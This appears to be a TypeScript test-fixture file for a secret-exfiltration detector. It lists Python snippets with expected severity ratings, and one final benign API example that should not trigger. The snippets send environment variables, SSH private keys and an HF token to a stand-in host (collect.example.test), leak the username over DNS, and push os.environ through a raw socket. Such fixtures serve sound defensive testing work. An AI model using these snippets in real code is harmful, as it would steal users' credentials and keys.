// Examples of secret-exfiltration.
import type { Example } from "../../core/detector.ts";
import { python } from "./testing/program.ts";

const KEY_FILE = ["~", ".ssh", "id_" + "rsa"].join("/");

export const examples: readonly Example[] = [
  python(
    "All environment variables",
    ["2 critical"],
    "import os, requests",
    'requests.post("https://collect.example.test/", json=dict(os.environ))',
  ),
  python(
    "The same, encoded, with urllib",
    ["4 critical"],
    "import base64, json, os",
    "from urllib import request",
    "body = base64.b64encode(json.dumps(dict(os.environ)).encode())",
    'request.urlopen(request.Request("https://collect.example.test/", data=body))',
  ),
  python(
    "A key file",
    ["4 critical"],
    "import os, requests",
    `path = os.path.expanduser("${KEY_FILE}")`,
    "with open(path) as key:",
    '    requests.post("https://collect.example.test/", data={"k": key.read()})',
  ),
  python(
    "The same through a path object and a function",
    ["4 critical"],
    "from pathlib import Path",
    "import httpx",
    "def send(text):",
    '    httpx.post("https://collect.example.test/", content=text)',
    'send((Path.home() / ".ssh" / "id_ed25519").read_text())',
  ),
  python(
    "A token in an address",
    ["3 high"],
    "import os, requests",
    'token = os.getenv("HF_TOKEN")',
    'requests.get(f"https://collect.example.test/?t={token}")',
  ),
  python(
    "Who and where, over DNS",
    ["2 high"],
    "import getpass, socket",
    'socket.gethostbyname(getpass.getuser() + ".collect.example.test")',
  ),
  python(
    "Over a socket",
    ["4 critical"],
    "import os, socket",
    "peer = socket.socket()",
    'peer.connect(("192.0.2.7", 443))',
    "peer.sendall(str(os.environ).encode())",
  ),
  python(
    "APIs used as they are meant to be",
    [],
    "import os, requests",
    'requests.post("https://api.example.com/v1", headers={"Authorization": f"Bearer {os.environ[\'EXAMPLE_API_KEY\']}"}, json={"text": "hello"})',
    'requests.post(f"https://api.telegram.org/bot{os.environ[\'TELEGRAM_TOKEN\']}/sendMessage", json={"text": "done"})',
    "env = os.environ.copy()",
    'requests.get("https://data.example.com/a", timeout=float(os.environ.get("TIMEOUT", "5")))',
  ),
];
